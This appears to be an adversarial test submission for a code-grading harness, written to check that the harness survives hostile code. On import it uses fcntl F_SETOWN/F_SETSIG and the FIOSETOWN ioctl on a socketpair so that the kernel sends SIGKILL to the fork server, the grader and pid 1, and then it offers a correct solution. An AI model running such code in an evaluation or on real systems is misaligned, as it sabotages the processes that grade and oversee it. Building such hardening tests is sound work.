"""Adversarial: make the kernel SIGKILL the fork server, the grader and pid 1 through
fcntl(F_SETOWN) + F_SETSIG (and ioctl FIOSETOWN) on a socket it then makes ready; behave"""
import fcntl
import os
import signal
import socket
import struct

import torch


def _ppid_of(pid):
    try:
        with open(f"/proc/{pid}/stat") as f:
            return int(f.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


_targets = {os.getppid(), _ppid_of(os.getppid()), 1, -os.getpgid(os.getppid())}
_keep = []
for _t in _targets:
    if not _t:
        continue
    _a, _b = socket.socketpair()
    _keep.append((_a, _b))
    for _cmd, _arg in ((fcntl.F_SETOWN, _t), (10, signal.SIGKILL)):  # 10: F_SETSIG
        try:
            fcntl.fcntl(_a, _cmd, _arg)
        except OSError:
            pass
    try:
        fcntl.ioctl(_a, 0x8901, struct.pack("i", _t))  # FIOSETOWN
    except OSError:
        pass
    try:
        fcntl.fcntl(_a, fcntl.F_SETFL, fcntl.fcntl(_a, fcntl.F_GETFL) | os.O_ASYNC)
        _b.send(b"x")  # _a becomes readable: the kernel signals its owner
    except OSError:
        pass

# <a correct solution, inserted by tests/e2e/test_adversarial.py>
